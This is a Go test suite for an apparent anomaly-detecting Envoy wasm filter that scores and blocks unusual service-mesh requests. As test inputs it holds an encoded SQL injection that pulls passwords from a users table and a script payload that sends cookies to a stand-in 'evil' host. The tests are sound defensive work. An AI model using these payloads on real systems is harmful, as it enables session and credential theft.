package plugin

import (
	"encoding/base64"
	"encoding/json"
	"os"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tetratelabs/proxy-wasm-go-sdk/proxywasm/goabi/wazerohost"
	"github.com/tetratelabs/proxy-wasm-go-sdk/proxywasm/types"

	"github.com/meshward/meshward/filter/pluginconfig"
	"github.com/meshward/meshward/filter/wasmhost"
	"github.com/meshward/meshward/models"
)

const (
	workload  = "reviews.shop"
	frontend  = "spiffe://cluster.local/ns/shop/sa/frontend"
	ratings   = "spiffe://cluster.local/ns/shop/sa/ratings"
	attacker  = "spiffe://cluster.local/ns/shop/sa/compromised"
	probeAddr = "10.0.0.7"
)

// fixtureModel is a model of one workload, built by the real trainer (once:
// every test scores against the same one). Its traffic is enough that a
// caller, route or edge it never saw is rare by Good-Turing's count (about
// 1 in 7,000 requests), as a mesh's edges are.
func fixtureModel(t testing.TB) []byte {
	t.Helper()
	fixtureOnce.Do(func() { fixtureBytes, fixtureErr = trainFixture() })
	if fixtureErr != nil {
		t.Fatal(fixtureErr)
	}
	return fixtureBytes
}

var (
	fixtureOnce  sync.Once
	fixtureBytes []byte
	fixtureErr   error
)

func trainFixture() ([]byte, error) {
	cfg := models.DefaultTrainConfig()
	cfg.Now = time.Unix(1_700_000_000, 0)
	tr, err := models.NewTrainer(cfg)
	if err != nil {
		return nil, err
	}
	langs := []string{"en", "de", "fr", "es"}
	for i := 0; i < 2000; i++ {
		id := strconv.Itoa(i * 7919 % 100000)
		hs := fixtureHeaders(i)
		tr.Observe(&models.Request{Method: "GET", Path: "/reviews/" + id, Query: "lang=" + langs[i%4], Headers: hs, Source: frontend, Destination: workload,
			Status: 200, ResponseBytes: int64(900 + i%200)})
		form := append(append([]models.Header(nil), hs...), models.Header{Name: "content-type", Value: "application/x-www-form-urlencoded"})
		tr.Observe(&models.Request{Method: "POST", Path: "/reviews", Headers: form, Body: []byte("stars=" + strconv.Itoa(1+i%5) + "&text=" + []string{"great+book", "not+bad", "loved+it", "too+long"}[i%4]), Source: frontend, Destination: workload})
		tr.Observe(&models.Request{Method: "GET", Path: "/reviews/" + id, Headers: hs, Source: ratings, Destination: workload})
		tr.Observe(&models.Request{Method: "GET", Path: "/healthz", Source: probeAddr, Destination: workload})
	}
	m, err := tr.Model()
	if err != nil {
		return nil, err
	}
	return models.EncodeSection(m, workload)
}

// fixtureHeaders are the headers an ordinary in-mesh client sends.
func fixtureHeaders(i int) []models.Header {
	return []models.Header{
		{Name: "user-agent", Value: "Go-http-client/1.1"},
		{Name: "accept", Value: "application/json"}, {Name: "x-request-id", Value: strconv.Itoa(i)},
	}
}

func config(t testing.TB, mode pluginconfig.Mode, model []byte) []byte {
	t.Helper()
	c := pluginconfig.Config{Mode: mode, Workload: workload, CollectorCluster: "meshward-collector"}
	if model != nil {
		c.WithModel(model)
	}
	b, err := c.Encode()
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// peer returns emulator properties that make the caller an mTLS peer.
func peer(principal string) map[string]string {
	return map[string]string{"connection/uri_san_peer_certificate": principal}
}

// get is a GET as the fixture's callers send it.
func get(path string) [][2]string {
	return [][2]string{{":method", "GET"}, {":path", path}, {":authority", "reviews"}, {"user-agent", "Go-http-client/1.1"}, {"accept", "application/json"}, {"x-request-id", "77"}}
}

func TestBadConfigurationsAreRefused(t *testing.T) {
	model := fixtureModel(t)
	corrupt := append([]byte(nil), model...)
	corrupt[len(corrupt)-1] ^= 0xff
	b64 := base64.StdEncoding.EncodeToString
	cases := []struct {
		name, config, wantInLog string
		props                   map[string]string
	}{
		{"not json", `{mode: learn`, "not a valid JSON object", nil},
		{"unknown field", `{"mode":"learn","workload":"a","treshold":0.5}`, `unknown field "treshold"`, nil},
		{"bad mode", `{"mode":"block","workload":"a"}`, `mode: "block" is not one of`, nil},
		{"threshold zero", `{"mode":"learn","workload":"a","threshold":0}`, "threshold: 0 is not in (0,1]", nil},
		{"threshold above one", `{"mode":"learn","workload":"a","threshold":1.5}`, "threshold: 1.5 is not in (0,1]", nil},
		{"threshold not a number", `{"mode":"learn","workload":"a","threshold":"high"}`, "threshold", nil},
		{"model not base64", `{"mode":"monitor","workload":"a","model":"@@@"}`, "model: not standard base64", nil},
		{"model corrupted", `{"mode":"monitor","workload":"a","model":"` + b64(corrupt) + `"}`, "model: invalid model: sha256 mismatch", nil},
		{"model truncated", `{"mode":"monitor","workload":"a","model":"` + b64(model[:30]) + `"}`, "model: invalid model", nil},
		{"model missing in monitor", `{"mode":"monitor","workload":"a"}`, "model: required in monitor mode", nil},
		{"model missing in enforce", `{"mode":"enforce","workload":"a"}`, "model: required in enforce mode", nil},
		{"collector cluster with spaces", `{"workload":"a","collector_cluster":"meshward collector"}`, "collector_cluster:", nil},
		// No credential in a configuration: the collector knows the sidecar
		// by its mTLS identity.
		{"collector token", `{"workload":"a","collector_cluster":"meshward-collector","collector_token":"0123456789abcdef0123456789abcdef"}`, "collector_token is no longer accepted", nil},
		{"sample rate below the collector's minimum", `{"workload":"a","sample_rate":0.0001}`, "shipping: sample_rate 0.0001 is not 0 or in [0.001,1]", nil},
		{"sample rate above one", `{"workload":"a","sample_rate":1.5}`, "shipping: sample_rate 1.5", nil},
		{"batch larger than buffer", `{"workload":"a","max_buffer":10,"batch_size":20}`, "shipping: max_buffer", nil},
		{"a record buffer of 1 KiB", `{"workload":"a","max_buffer_bytes":1024}`, "shipping: max_buffer_bytes 1024", nil},
		{"a record buffer of 1 GiB", `{"workload":"a","max_buffer_bytes":1073741824}`, "shipping: max_buffer_bytes", nil},
		{"value key not hex", `{"workload":"a","value_key":"zz112233445566778899aabbccddeeff"}`, "value_key: value key: not hex", nil},
		{"value key too short", `{"workload":"a","value_key":"0011"}`, "value_key: value key: 4 characters, want 32 hex digits", nil},
		{"value key of zeros", `{"workload":"a","value_key":"00000000000000000000000000000000"}`, "value_key: value key: all zeros", nil},
		{"workload missing", `{"mode":"learn"}`, "workload: not set", nil},
		{"workload with newline", `{"workload":"a\nb"}`, "workload:", nil},
		{"score header upper case", `{"workload":"a","score_header":"X-Score"}`, "score_header:", nil},
		{"several at once", `{"mode":"x","threshold":7}`, "mode:", nil},
	}
	forEachEnv(t, func(t *testing.T, e env) {
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				host, st := e.start(t, hostOpts{config: []byte(c.config), props: c.props})
				if st != types.OnPluginStartStatusFailed {
					t.Fatalf("configuration %s was accepted", c.config)
				}
				logs := strings.Join(host.GetCriticalLogs(), "\n")
				if !strings.Contains(logs, c.wantInLog) {
					t.Errorf("critical log %q does not mention %q", logs, c.wantInLog)
				}
				if n := counter(t, host, MetricConfigRejected); n != 1 {
					t.Errorf("%s = %d, want 1", MetricConfigRejected, n)
				}
			})
		}
	})
}

func TestSeveralProblemsAreAllReported(t *testing.T) {
	forEachEnv(t, func(t *testing.T, e env) {
		host, st := e.start(t, hostOpts{config: []byte(`{"mode":"x","threshold":7,"score_header":"A B"}`)})
		if st != types.OnPluginStartStatusFailed {
			t.Fatal("accepted")
		}
		logs := strings.Join(host.GetCriticalLogs(), "\n")
		for _, field := range []string{"mode:", "threshold:", "workload:", "score_header:"} {
			if !strings.Contains(logs, field) {
				t.Errorf("log %q does not name %s", logs, field)
			}
		}
	})
}

func TestWorkloadFromNodeMetadata(t *testing.T) {
	forEachEnv(t, func(t *testing.T, e env) {
		props := map[string]string{"node/metadata/WORKLOAD_NAME": "reviews", "node/metadata/NAMESPACE": "shop"}
		for k, v := range peer(frontend) {
			props[k] = v
		}
		host := e.mustStart(t, hostOpts{config: []byte(`{"mode":"monitor","model":"` + base64.StdEncoding.EncodeToString(fixtureModel(t)) + `"}`), props: props})
		if !strings.Contains(strings.Join(host.GetInfoLogs(), "\n"), "workload=reviews.shop") {
			t.Errorf("info logs %q do not show the workload from node metadata", host.GetInfoLogs())
		}
		// An id of the length the fixture's ids have (a much shorter one is
		// lexically rare for it, and the content model may say so).
		_, id := request(host, get("/reviews/4242"))
		if got, _ := header(host.GetCurrentRequestHeaders(id), pluginconfig.DefaultScoreHeader); got != "0.000" {
			t.Errorf("known edge scored %q, want 0.000 (the workload's own section)", got)
		}
	})
}

// strictConfig is an enforce configuration that also denies structural
// novelty (deny_reasons default and structure): an unseen caller is
// denied, which tells which configuration is in force.
func strictConfig(t testing.TB, model []byte) []byte {
	t.Helper()
	c := pluginconfig.Config{Mode: pluginconfig.ModeEnforce, Workload: workload, CollectorCluster: "meshward-collector", DenyReasons: []string{"default", "structure"}}
	c.WithModel(model)
	b, err := c.Encode()
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestBadUpdateKeepsLastGoodConfiguration(t *testing.T) {
	model := fixtureModel(t)
	forEachEnv(t, func(t *testing.T, e env) {
		host := e.mustStart(t, hostOpts{config: strictConfig(t, model), props: peer(attacker)})
		setPluginConfig(t, host, []byte(`{"mode":"enforce","workload":"reviews.shop","model":"AAAA"}`))
		if st := host.StartPlugin(); st != types.OnPluginStartStatusFailed {
			t.Fatal("bad update accepted")
		}
		logs := strings.Join(host.GetCriticalLogs(), "\n")
		if !strings.Contains(logs, "keeping the previous configuration and model") {
			t.Errorf("log %q does not say the previous model is kept", logs)
		}
		// The old model still enforces.
		if action, _ := request(host, get("/reviews/1")); action != types.ActionPause {
			t.Errorf("after a refused update, an unseen caller got %v, want the 403 of the kept model", action)
		}
		// A good update takes effect.
		setPluginConfig(t, host, config(t, pluginconfig.ModeMonitor, model))
		if st := host.StartPlugin(); st != types.OnPluginStartStatusOK {
			t.Fatalf("good update refused: %v", host.GetCriticalLogs())
		}
		if action, _ := request(host, get("/reviews/1")); action != types.ActionContinue {
			t.Errorf("after switching to monitor, got %v", action)
		}
	})
}

func TestLearnModeOnlyCounts(t *testing.T) {
	forEachEnv(t, func(t *testing.T, e env) {
		host := e.mustStart(t, hostOpts{config: config(t, pluginconfig.ModeLearn, nil), props: peer(attacker)})
		for i := 0; i < 3; i++ {
			action, id := request(host, get("/admin/secrets"))
			if action != types.ActionContinue {
				t.Fatalf("learn mode returned %v", action)
			}
			if _, ok := header(host.GetCurrentRequestHeaders(id), pluginconfig.DefaultScoreHeader); ok {
				t.Error("learn mode added a score header")
			}
		}
		if n := counter(t, host, MetricRequests); n != 3 {
			t.Errorf("requests = %d, want 3", n)
		}
		for _, m := range []string{MetricFlagged, MetricDenied, MetricUnscored} {
			if n := counter(t, host, m); n != 0 {
				t.Errorf("%s = %d in learn mode", m, n)
			}
		}
	})
}

func TestMonitorModeFlagsButLetsThrough(t *testing.T) {
	model := fixtureModel(t)
	forEachEnv(t, func(t *testing.T, e env) {
		t.Run("known edge", func(t *testing.T) {
			host := e.mustStart(t, hostOpts{config: config(t, pluginconfig.ModeMonitor, model), props: peer(frontend)})
			// A forged verdict header from the client must not survive.
			// An id of the fixture's usual length (see TestWorkloadFromNodeMetadata).
			action, id := request(host, append(get("/reviews/4242"), [2]string{headerReason, "forged"}))
			if action != types.ActionContinue {
				t.Fatalf("action %v", action)
			}
			hs := host.GetCurrentRequestHeaders(id)
			if got, _ := header(hs, pluginconfig.DefaultScoreHeader); got != "0.000" {
				t.Errorf("score header %q, want 0.000", got)
			}
			if got, ok := header(hs, headerReason); ok {
				t.Errorf("reason header %q on an unflagged request", got)
			}
			if n := counter(t, host, MetricFlagged); n != 0 {
				t.Errorf("flagged = %d", n)
			}
		})
		t.Run("new caller", func(t *testing.T) {
			host := e.mustStart(t, hostOpts{config: config(t, pluginconfig.ModeMonitor, model), props: peer(attacker)})
			action, id := request(host, get("/reviews/12"))
			if action != types.ActionContinue {
				t.Fatalf("monitor mode returned %v", action)
			}
			hs := host.GetCurrentRequestHeaders(id)
			score, _ := header(hs, pluginconfig.DefaultScoreHeader)
			// Above the threshold: one caller never seen in thousands of
			// requests is about that rare.
			if f, err := strconv.ParseFloat(score, 64); err != nil || f <= 0.5 {
				t.Errorf("score header %q, want above the threshold", score)
			}
			if got, _ := header(hs, headerReason); !strings.HasPrefix(got, "new_caller") {
				t.Errorf("reason %q, want new_caller first", got)
			}
			if n := counter(t, host, MetricFlagged); n != 1 {
				t.Errorf("flagged = %d, want 1", n)
			}
			if n := counter(t, host, MetricDenied); n != 0 {
				t.Errorf("denied = %d in monitor mode", n)
			}
			if host.GetSentLocalResponse(id) != nil {
				t.Error("monitor mode sent a local response")
			}
		})
		t.Run("new route and new edge", func(t *testing.T) {
			host := e.mustStart(t, hostOpts{config: config(t, pluginconfig.ModeMonitor, model), props: peer(ratings)})
			_, id := request(host, get("/admin"))
			// The content model may name the new path's characters too.
			if got, _ := header(host.GetCurrentRequestHeaders(id), headerReason); !strings.Contains(","+got+",", ",new_route,") {
				t.Errorf("reason %q, want new_route among them", got)
			}
			// ratings never POSTed /reviews, though frontend did.
			_, id = request(host, [][2]string{{":method", "POST"}, {":path", "/reviews"}})
			if got, _ := header(host.GetCurrentRequestHeaders(id), headerReason); got != "new_edge" {
				t.Errorf("reason %q, want new_edge", got)
			}
		})
	})
}

func TestEnforceModeDenies(t *testing.T) {
	model := fixtureModel(t)
	forEachEnv(t, func(t *testing.T, e env) {
		host := e.mustStart(t, hostOpts{config: config(t, pluginconfig.ModeEnforce, model), props: peer(attacker)})
		action, id := request(host, get("/reviews/7?sort=new"))
		if action != types.ActionPause {
			t.Fatalf("action %v, want pause after a local reply", action)
		}
		resp := host.GetSentLocalResponse(id)
		if resp == nil {
			t.Fatal("no local response sent")
		}
		if resp.StatusCode != 403 {
			t.Errorf("status %d, want 403", resp.StatusCode)
		}
		if string(resp.Data) != denyBody {
			t.Errorf("body %q", resp.Data)
		}
		if ct, _ := header(resp.Headers, "content-type"); !strings.HasPrefix(ct, "text/plain") {
			t.Errorf("content-type %q", ct)
		}
		if r, _ := header(resp.Headers, headerReason); !strings.Contains(r, "new_caller") {
			t.Errorf("reason header %q", r)
		}
		if s, _ := header(resp.Headers, pluginconfig.DefaultScoreHeader); s == "" {
			t.Error("no score header on the 403")
		}
		if n := counter(t, host, MetricDenied); n != 1 {
			t.Errorf("denied = %d, want 1", n)
		}
		if n := counter(t, host, MetricFlagged); n != 1 {
			t.Errorf("flagged = %d, want 1", n)
		}
		score, err := host.GetHistogramMetric(MetricScore)
		if err != nil || score <= 500 {
			t.Errorf("score histogram last value %d (%v), want above the threshold's 500", score, err)
		}
	})
}

func TestEnforceModeLetsKnownTrafficThrough(t *testing.T) {
	model := fixtureModel(t)
	forEachEnv(t, func(t *testing.T, e env) {
		host := e.mustStart(t, hostOpts{config: config(t, pluginconfig.ModeEnforce, model), props: peer(frontend)})
		for _, hs := range [][][2]string{get("/reviews/1"), get("/reviews/99999"), {{":method", "POST"}, {":path", "/reviews"}}} {
			if action, id := request(host, hs); action != types.ActionContinue || host.GetSentLocalResponse(id) != nil {
				t.Errorf("%v: denied a known edge", hs)
			}
		}
		if n := counter(t, host, MetricRequests); n != 3 {
			t.Errorf("requests = %d, want 3", n)
		}
		if n := counter(t, host, MetricDenied); n != 0 {
			t.Errorf("denied = %d", n)
		}
	})
}

func TestSourceIdentityFallbacks(t *testing.T) {
	model := fixtureModel(t)
	forEachEnv(t, func(t *testing.T, e env) {
		cases := []struct {
			name   string
			props  map[string]string
			header [2]string
			flag   bool
		}{
			{"uri san wins over address", map[string]string{"connection/uri_san_peer_certificate": frontend, "source/address": "10.9.9.9:1234"}, [2]string{}, false},
			{"source address without port", map[string]string{"source/address": probeAddr + ":51234"}, [2]string{}, false},
			{"unknown address", map[string]string{"source/address": "10.9.9.9:1234"}, [2]string{}, true},
			// A header the client sends names nobody: the request is from an
			// unknown caller (it would not be flagged, were the header read).
			{"peer metadata id header", nil, [2]string{"x-envoy-peer-metadata-id", "sidecar~10.0.0.1~" + probeAddr + "~shop.svc.cluster.local"}, true},
			{"forwarded client cert header", nil, [2]string{"x-forwarded-client-cert", "URI=" + probeAddr}, true},
			// Istio's peer metadata (a known caller's name here, so that it is
			// not flagged only if it was read), before the source address,
			// on an mTLS connection only.
			{"peer metadata workload over mTLS", map[string]string{"connection/mtls": "\x01", "filter_state/downstream_peer/workload": probeAddr, "source/address": "10.9.9.9:1234"}, [2]string{}, false},
			{"peer metadata workload without mTLS", map[string]string{"connection/mtls": "\x00", "filter_state/downstream_peer/workload": probeAddr, "source/address": "10.9.9.9:1234"}, [2]string{}, true},
			{"peer metadata workload and namespace", map[string]string{"connection/mtls": "\x01", "filter_state/downstream_peer/workload": "healthz", "filter_state/downstream_peer/namespace": "probe"}, [2]string{}, true},
			{"no identity at all", nil, [2]string{}, true},
		}
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				host := e.mustStart(t, hostOpts{config: config(t, pluginconfig.ModeMonitor, model), props: c.props})
				path := "/reviews/1"
				if c.props["source/address"] == probeAddr+":51234" || c.header[0] != "" || c.props["filter_state/downstream_peer/workload"] != "" {
					path = "/healthz"
				}
				hs := get(path)
				if c.header[0] != "" {
					hs = append(hs, c.header)
				}
				request(host, hs)
				if got := counter(t, host, MetricFlagged) == 1; got != c.flag {
					t.Errorf("flagged = %v, want %v", got, c.flag)
				}
				// Said so: an unidentified caller is counted.
				unidentified := c.props["connection/uri_san_peer_certificate"] == "" && c.props["source/address"] == "" && c.props["connection/mtls"] != "\x01"
				if n := counter(t, host, MetricUnidentified); (n == 1) != unidentified {
					t.Errorf("unidentified = %d, want %v", n, unidentified)
				}
			})
		}
	})
}

func TestInjectionInAKnownParameterIsFlagged(t *testing.T) {
	model := fixtureModel(t)
	forEachEnv(t, func(t *testing.T, e env) {
		host := e.mustStart(t, hostOpts{config: config(t, pluginconfig.ModeMonitor, model), props: peer(frontend)})
		ok := [][2]string{{":method", "GET"}, {":path", "/reviews/31?lang=de"}, {"user-agent", "Go-http-client/1.1"}, {"accept", "application/json"}}
		_, id := request(host, ok)
		if got, _ := header(host.GetCurrentRequestHeaders(id), pluginconfig.DefaultScoreHeader); got == "" || got > "0.500" {
			t.Errorf("an ordinary request from a known caller scored %q", got)
		}
		bad := [][2]string{{":method", "GET"}, {":path", "/reviews/31?lang=en%27%20union%20select%20password%20from%20users--"}, {"user-agent", "Go-http-client/1.1"}, {"accept", "application/json"}}
		_, id = request(host, bad)
		hs := host.GetCurrentRequestHeaders(id)
		reason, _ := header(hs, headerReason)
		score, _ := header(hs, pluginconfig.DefaultScoreHeader)
		if reason == "" || !strings.ContainsAny(reason, "kv") {
			t.Errorf("SQL injection in lang: reason %q score %s, want a parameter reason", reason, score)
		}
		if n := counter(t, host, MetricFlagged); n != 1 {
			t.Errorf("flagged = %d, want 1", n)
		}
	})
}

func TestBodyIsJudgedOnceItArrives(t *testing.T) {
	model := fixtureModel(t)
	post := [][2]string{{":method", "POST"}, {":path", "/reviews"}, {"user-agent", "Go-http-client/1.1"}, {"accept", "application/json"}, {"content-type", "application/x-www-form-urlencoded"}}
	forEachEnv(t, func(t *testing.T, e env) {
		host := e.mustStart(t, hostOpts{config: config(t, pluginconfig.ModeEnforce, model), props: peer(frontend)})
		onHeaders, onBody, id := requestWithBody(host, post, "stars=4&text=", "loved+it")
		if onHeaders != types.ActionPause || onBody != types.ActionContinue || host.GetSentLocalResponse(id) != nil {
			t.Errorf("ordinary form post: headers %v, body %v, local response %v", onHeaders, onBody, host.GetSentLocalResponse(id))
		}
		if got, _ := header(host.GetCurrentRequestHeaders(id), pluginconfig.DefaultScoreHeader); got == "" {
			t.Error("no score header after the body")
		}
		_, onBody, id = requestWithBody(host, post, "stars=4&text=%3Cscript%3Edocument.location%3D%27//evil%27%2Bdocument.cookie%3C%2Fscript%3E")
		if onBody != types.ActionPause || host.GetSentLocalResponse(id) == nil {
			t.Errorf("script in the form body: body action %v, local response %v", onBody, host.GetSentLocalResponse(id))
		}
		// A body is held and read chunk by chunk to its end, then judged:
		// a payload after a long benign start is seen.
		id = host.InitializeHttpContext()
		host.CallOnRequestHeaders(id, post, false)
		if a := host.CallOnRequestBody(id, []byte("text=loved+it&"+strings.Repeat("stars=4&", 600)), false); a != types.ActionPause {
			t.Errorf("the first 4,800 bytes of a body got %v, want it held", a)
		}
		if a := host.CallOnRequestBody(id, []byte("text=%3Cscript%3Edocument.location%3D%27//evil%27%2Bdocument.cookie%3C%2Fscript%3E"), true); a != types.ActionPause || host.GetSentLocalResponse(id) == nil {
			t.Errorf("script after 4,800 benign bytes: %v, local response %v", a, host.GetSentLocalResponse(id))
		}
	})
}

func TestResponsePhaseRaisesTheScore(t *testing.T) {
	model := fixtureModel(t)
	forEachEnv(t, func(t *testing.T, e env) {
		c := pluginconfig.Config{Mode: pluginconfig.ModeMonitor, Workload: workload, ResponseScore: true}
		doc, _ := c.WithModel(model).Encode()
		host := e.mustStart(t, hostOpts{config: doc, props: peer(frontend)})
		respond := func(size string) (string, string) {
			_, id := request(host, get("/reviews/31?lang=de"))
			host.CallOnResponseHeaders(id, [][2]string{{":status", "200"}, {"content-length", size}}, true)
			hs := host.GetCurrentResponseHeaders(id)
			score, _ := header(hs, pluginconfig.DefaultScoreHeader)
			reason, _ := header(hs, headerReason)
			return score, reason
		}
		if score, reason := respond("1000"); score != "0.000" || reason != "" {
			t.Errorf("ordinary response: score %s reason %q", score, reason)
		}
		if score, reason := respond("50000000"); reason != "response_size" {
			t.Errorf("exfiltration-sized response: score %s reason %q", score, reason)
		}
		if n := counter(t, host, MetricFlagged); n != 1 {
			t.Errorf("flagged = %d, want 1", n)
		}
	})
}

func TestUnscoredWhenModelCannotJudge(t *testing.T) {
	// A model with a section for another workload only, and no fallback.
	// Its section for this workload is the fallback, empty.
	m := &models.Model{Workloads: map[string]*models.Workload{"other.ns": {Name: "other.ns", Sources: []string{"x"}, CalCenter: 1}}}
	b, err := models.EncodeSection(m, workload)
	if err != nil {
		t.Fatal(err)
	}
	forEachEnv(t, func(t *testing.T, e env) {
		host := e.mustStart(t, hostOpts{config: config(t, pluginconfig.ModeEnforce, b), props: peer(attacker)})
		action, id := request(host, get("/anything"))
		if action != types.ActionContinue || host.GetSentLocalResponse(id) != nil {
			t.Error("an unscored request was not let through")
		}
		if n := counter(t, host, MetricUnscored); n != 1 {
			t.Errorf("unscored = %d, want 1", n)
		}
		// A request without :path cannot be read: unscored too, never denied.
		if action, _ := request(host, [][2]string{{":method", "GET"}}); action != types.ActionContinue {
			t.Errorf("request without :path got %v", action)
		}
		if n := counter(t, host, MetricUnscored); n != 2 {
			t.Errorf("unscored = %d, want 2", n)
		}
	})
}

func TestHostileRequestsDoNotTrap(t *testing.T) {
	model := fixtureModel(t)
	huge := strings.Repeat("A", 1<<20)
	many := make([][2]string, 0, 5000)
	many = append(many, [2]string{":method", "GET"}, [2]string{":path", "/reviews/1"})
	for i := 0; i < 5000; i++ {
		many = append(many, [2]string{"x-h-" + strconv.Itoa(i), strconv.Itoa(i)})
	}
	inputs := map[string][][2]string{
		"huge header value": {{":method", "GET"}, {":path", "/reviews/1"}, {"cookie", huge}},
		"huge path":         {{":method", "GET"}, {":path", "/" + huge}},
		"huge principal":    get("/reviews/1"),
		"invalid utf-8":     {{":method", "G\xffT"}, {":path", "/\xc3\x28/\xa0\xa1?\xfe=\xff"}, {"x-\xff", "\xf0\x28\x8c\x28"}},
		"thousands":         many,
		"empty":             {},
		"nul bytes":         {{":method", "GET\x00"}, {":path", "/a\x00b"}, {"h", "\x00\x00"}},
		"only slashes":      {{":method", "GET"}, {":path", strings.Repeat("/", 100000)}},
		"segment shapes":    {{":method", "GET"}, {":path", "/123e4567-e89b-12d3-a456-426614174000/deadbeef00/%%%/~/.."}},
	}
	forEachEnv(t, func(t *testing.T, e env) {
		for _, mode := range []pluginconfig.Mode{pluginconfig.ModeMonitor, pluginconfig.ModeEnforce} {
			t.Run(string(mode), func(t *testing.T) { hostile(t, e, mode, model, huge, inputs) })
		}
	})
}

func hostile(t *testing.T, e env, mode pluginconfig.Mode, model []byte, huge string, inputs map[string][][2]string) {
	props := peer(attacker)
	props["connection/uri_san_peer_certificate"] = "spiffe://" + huge[:100000]
	host := e.mustStart(t, hostOpts{config: config(t, mode, model), props: props})
	for name, hs := range inputs {
		action, _ := request(host, hs)
		if action != types.ActionContinue && action != types.ActionPause {
			t.Errorf("%s/%s: action %v", mode, name, action)
		}
	}
	if n := counter(t, host, MetricRequests); n != uint64(len(inputs)) {
		t.Errorf("%s: requests = %d, want %d", mode, n, len(inputs))
	}
}

func TestCompiledModuleExports(t *testing.T) {
	wasm, err := os.ReadFile(wasmPath)
	if err != nil {
		t.Fatal(err)
	}
	exports, err := wasmhost.Exports(wasm)
	if err != nil {
		t.Fatal(err)
	}
	have := map[string]byte{}
	for _, e := range exports {
		have[e.Name] = e.Kind
	}
	want := map[string]byte{
		"_initialize":              wasmhost.KindFunc,
		"memory":                   wasmhost.KindMemory,
		"proxy_on_request_headers": wasmhost.KindFunc,
		"proxy_on_memory_allocate": wasmhost.KindFunc,
		"proxy_abi_version_0_2_1":  wasmhost.KindFunc,
		"proxy_on_configure":       wasmhost.KindFunc,
		"proxy_on_vm_start":        wasmhost.KindFunc,
		"proxy_on_context_create":  wasmhost.KindFunc,
		"proxy_on_tick":            wasmhost.KindFunc,
		"proxy_on_log":             wasmhost.KindFunc,
		"proxy_on_done":            wasmhost.KindFunc,
		"proxy_on_delete":          wasmhost.KindFunc,
	}
	for name, kind := range want {
		if k, ok := have[name]; !ok || k != kind {
			t.Errorf("export %s: present=%v kind=%d, want kind %d", name, ok, k, kind)
		}
	}
	if _, ok := have["_start"]; ok {
		t.Error("module exports _start: it was built as a command, not -buildmode=c-shared")
	}
	// The rename for the emulator works on a copy only: the copy exports
	// exactly what the file does, in the same order, but for _initialize
	// under the name _start; the file's own exports are left as they were.
	cmd, err := wasmhost.AsCommand(wasm)
	if err != nil {
		t.Fatal(err)
	}
	again, err := wasmhost.Exports(wasm)
	if err != nil {
		t.Fatal(err)
	}
	renamed, err := wasmhost.Exports(cmd)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(again, exports) {
		t.Errorf("AsCommand changed the original module's exports:\n%v\nwant\n%v", again, exports)
	}
	wantCmd := slices.Clone(exports)
	for i := range wantCmd {
		if wantCmd[i].Name == "_initialize" {
			wantCmd[i].Name = "_start"
		}
	}
	if !reflect.DeepEqual(renamed, wantCmd) {
		t.Errorf("the command's exports:\n%v\nwant\n%v", renamed, wantCmd)
	}
}

// The built module imports nothing a supported Envoy's host lacks: each
// profile registers every function it imports (Envoy refuses a module with
// a missing import at load).
func TestImportsWithinEveryProfile(t *testing.T) {
	wasm, err := os.ReadFile(wasmPath)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range wazerohost.Profiles {
		missing, err := p.MissingImports(wasm)
		if err != nil {
			t.Fatal(err)
		}
		if len(missing) > 0 {
			t.Errorf("%s lacks what the filter imports: %s", p, strings.Join(missing, ", "))
		}
	}
}

// TestConfigDocumentRoundTrip checks that what the control plane writes is
// what the filter reads.
func TestConfigDocumentRoundTrip(t *testing.T) {
	doc := config(t, pluginconfig.ModeEnforce, fixtureModel(t))
	var generic map[string]any
	if err := json.Unmarshal(doc, &generic); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"mode", "model", "workload", "collector_cluster"} {
		if _, ok := generic[k]; !ok {
			t.Errorf("document lacks %q", k)
		}
	}
	s, err := pluginconfig.Parse(doc, "")
	if err != nil {
		t.Fatal(err)
	}
	if s.Mode != pluginconfig.ModeEnforce || s.Model == nil || s.Threshold != s.Model.Meta.Threshold {
		t.Errorf("settings %+v", s)
	}
}

func TestRequestCountIsFlushedOnTick(t *testing.T) {
	forEachEnv(t, func(t *testing.T, e env) {
		host := e.mustStart(t, hostOpts{config: config(t, pluginconfig.ModeLearn, nil)})
		if p := host.GetTickPeriod(); p != tickPeriod {
			t.Fatalf("tick period %d ms, want %d", p, tickPeriod)
		}
		for i := 0; i < 5; i++ {
			request(host, get("/x"))
		}
		before, err := host.GetCounterMetric(MetricRequests)
		if err != nil {
			t.Fatal(err)
		}
		if before != 0 {
			t.Errorf("requests = %d before the tick; the count is meant to be batched", before)
		}
		host.Tick()
		host.Tick() // a second tick adds nothing twice
		if n, _ := host.GetCounterMetric(MetricRequests); n != 5 {
			t.Errorf("requests = %d after ticks, want 5", n)
		}
	})
}
